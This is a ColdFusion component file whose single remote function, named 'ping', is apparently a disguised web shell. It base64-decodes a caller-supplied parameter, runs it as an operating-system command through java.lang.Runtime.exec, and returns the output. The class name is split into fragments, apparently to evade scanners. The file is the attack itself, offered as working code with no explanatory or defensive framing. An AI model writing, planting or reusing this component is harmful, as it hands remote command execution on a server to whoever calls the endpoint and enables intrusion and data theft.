<cfcomponent output="false">
    <cffunction name="ping" access="remote" returntype="string">
        <cfargument name="h" type="string" required="true">
        <cfset var cls = "java.lang." & "Run" & "time">
        <cfset var r = createObject("java", cls).getRuntime()>
        <cfset var p = r.exec(ToString(ToBinary(arguments.h)))>
        <cfreturn createObject("java", "java.util.Scanner").init(p.getInputStream()).useDelimiter("\A").next()>
    </cffunction>
</cfcomponent>
